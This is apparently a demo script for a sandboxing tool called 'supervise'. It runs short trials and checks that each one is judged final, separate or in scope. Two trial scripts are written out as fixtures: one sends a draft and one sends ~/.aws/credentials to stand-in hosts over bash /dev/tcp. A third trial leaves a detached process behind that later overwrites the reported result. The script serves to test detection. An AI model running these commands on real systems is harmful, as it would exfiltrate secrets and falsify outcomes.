"""Short trials with their reports: ordinary, out of scope, caught with a decoy, not over; and two runs that met.

Only the ``supervise`` command is used, as anybody would. Everything happens in a folder that is removed at the end; the
addresses and names that are called are those of documentation, and nothing can leave a box. The demo fails when a
verdict is not the one that it promises.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from tempfile import TemporaryDirectory

import measuring

WIDTH = 100


@dataclass(frozen=True, slots=True, kw_only=True)
class Trial:
    """One trial: what it shows, its options and command, and the verdicts that it must end with."""

    title: str
    story: str
    options: tuple[str, ...] = ()
    script: str
    finality: str
    separation: str
    scope: str


TRIALS = (
    Trial(
        title="An ordinary trial",
        story="It sorts three notes in its private /tmp and checks them; the outcome is its exit code. Nothing stays.",
        script="sort notes/*.md > /tmp/sorted && grep -c . /tmp/sorted && grep -qx plums /tmp/sorted",
        finality="final",
        separation="separate",
        scope="clean",
    ),
    Trial(
        title="A trial that leaves no trace on disk, and still broke its scope",
        story="It changes a draft, puts it back, and tries to send it away. The files afterwards show nothing of it.",
        options=("--outcome", "draft.md"),
        script=(
            "cp draft.md /tmp/kept && echo 'changed' >> draft.md && cat /tmp/kept > draft.md; "
            "bash -c 'cat draft.md > /dev/tcp/203.0.113.7/443' 2>/dev/null || echo 'could not send it'"
        ),
        finality="final",
        separation="separate",
        scope="violated",
    ),
    Trial(
        title="A trial that takes a credential, and sends it where nobody listens",
        story="A decoy lies where keys usually do. All traffic is swallowed and looked at: what was to leave is known.",
        options=("-p", "bait.toml"),
        script=(
            "bash -c 'exec 3<> /dev/tcp/drop.example/80 && cat ~/.aws/credentials >&3' && "
            "echo 'it believes that it was sent'"
        ),
        finality="final",
        separation="separate",
        scope="violated",
    ),
    Trial(
        title="A trial that is not over when its command ends",
        story="It reports success, but a process that it left behind would change the result a minute later.",
        options=("--period", "eventually", "--settle", "1s", "--outcome", "result.txt"),
        script=(
            "echo success > result.txt; "
            "(setsid sh -c 'sleep 60; echo failure > result.txt' > /dev/null 2>&1 &); cat result.txt"
        ),
        finality="unresolved",
        separation="unresolved",
        scope="clean",
    ),
)


BAIT = """schema = 1

[network]
default = "sinkhole"

[credentials]
canaries = true
"""

VISITS = ("echo 'sell pears' >> board/orders", "cat board/orders")
"""What two trials do in a place that they share."""


def heading(words: str) -> None:
    """Print a heading."""
    print(f"\n{'=' * WIDTH}\n{words}\n{'=' * WIDTH}", flush=True)


def write_workspace(folder: Path) -> None:
    """Write what the trials work on."""
    (folder / "notes").mkdir(parents=True)
    for number, word in enumerate(("pears", "apples", "plums")):
        (folder / "notes" / f"{number}.md").write_text(f"{word}\n", encoding="ascii")
    (folder / "bait.toml").write_text(BAIT, encoding="ascii")
    (folder / "board").mkdir()
    (folder / "draft.md").write_text("a draft that nobody else should see\n", encoding="ascii")


def show(trial: Trial, workspace: Path) -> list[str]:
    """Run one trial and print its report.

    Returns:
        What is not as promised.
    """
    supervise = measuring.supervise_command()
    command = [supervise, "-q", *trial.options, "--", "sh", "-c", trial.script]
    heading(trial.title)
    print(f"{trial.story}\n\n$ {' '.join(['supervise', *trial.options])} -- sh -c '…'", flush=True)
    done = subprocess.run(command, cwd=workspace, stdin=subprocess.DEVNULL, check=False)
    print(f"(exit code {done.returncode})\n\n$ supervise show last", flush=True)
    subprocess.run([supervise, "show", "last"], stdin=subprocess.DEVNULL, check=False)
    told = subprocess.run([supervise, "show", "last", "--format", "json"], capture_output=True, check=False)
    if told.returncode:
        return [f"{trial.title}: no report: {told.stderr.decode(errors='replace')}"]
    report = json.loads(told.stdout)
    promised = {"finality": trial.finality, "separation": trial.separation, "scope": trial.scope}
    return [
        f"{trial.title}: expected {question} {verdict}, got {report[question]['verdict']}"
        for question, verdict in promised.items()
        if report[question]["verdict"] != verdict
    ]


def show_separation(workspace: Path) -> list[str]:
    """Run two trials that share a place, and print whether they count separately.

    Returns:
        What is not as promised.
    """
    supervise = measuring.supervise_command()
    heading("Two runs of which the second read what the first had left")
    print("Each alone is final and clean. For statistics they are one observation, not two.\n", flush=True)
    runs: list[str] = []
    for script in VISITS:
        print(f'$ supervise --shared board -- sh -c "{script}"', flush=True)
        command = [supervise, "-q", "--shared", "board", "--", "sh", "-c", script]
        subprocess.run(command, cwd=workspace, stdin=subprocess.DEVNULL, check=False)
        told = subprocess.run([supervise, "show", "last", "--format", "json"], capture_output=True, check=False)
        if told.returncode:
            return [f"two runs: no report: {told.stderr.decode(errors='replace')}"]
        runs.append(json.loads(told.stdout)["run"])
    print(f"\n$ supervise separate {' '.join(runs)}", flush=True)
    subprocess.run([supervise, "separate", *runs], stdin=subprocess.DEVNULL, check=False)
    judged = subprocess.run([supervise, "separate", "--json", *runs], capture_output=True, check=False)
    units = json.loads(judged.stdout)["units"] if judged.returncode == 0 else None
    return [] if units == [runs] else [f"two runs: expected one unit of both, got {units}"]


def main() -> int:
    """Show all of them, then what is kept of them."""
    faults: list[str] = []
    with TemporaryDirectory(prefix="supervise-demo-") as name:
        home, workspace = Path(name) / "state", Path(name) / "work"
        home.mkdir(mode=0o700)
        write_workspace(workspace)
        os.environ["SUPERVISE_HOME"] = str(home)
        for trial in TRIALS:
            faults += show(trial, workspace)
        faults += show_separation(workspace)
        heading("What is kept of them, and that nobody altered it")
        for words in (("ls",), ("verify", "last")):
            print(f"$ supervise {' '.join(words)}", flush=True)
            subprocess.run([measuring.supervise_command(), *words], stdin=subprocess.DEVNULL, check=False)
    for fault in faults:
        print(f"demo: {fault}", file=sys.stderr)
    return 1 if faults else 0


if __name__ == "__main__":
    try:
        sys.exit(main())
    except measuring.MeasuringError as error:
        sys.exit(f"demo: {error}")
